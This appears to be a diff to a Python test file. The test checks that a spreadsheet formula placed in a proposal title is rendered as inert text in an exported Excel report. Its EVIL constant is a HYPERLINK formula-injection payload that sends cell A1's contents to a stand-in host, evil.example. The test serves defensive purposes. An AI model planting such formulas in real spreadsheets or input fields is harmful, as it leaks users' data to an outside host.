@@ -9,6 +9,8 @@ import zipfile
 from openpyxl import load_workbook
 
 from lianxin.modules.proposals import service
+from lianxin.modules.proposals.inputs import ProposalDraftSchema
+from lianxin.usecases import load_input
 from tests.modules.proposals.test_service import BODY
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
@@ -16,7 +18,9 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 
 def test_a_formula_in_a_title_is_text_in_the_report(clock, cast, tctx, office):
     proposal = service.create_draft(
-        cast.actors[0], tctx, {**BODY, "kind": "proposal", "title": EVIL}
+        cast.actors[0],
+        tctx,
+        load_input(ProposalDraftSchema, {**BODY, "kind": "proposal", "title": EVIL}),
     )
     service.invite(cast.actors[0], tctx, proposal.id, cast.reps[1:10])
     for i in range(1, 10):
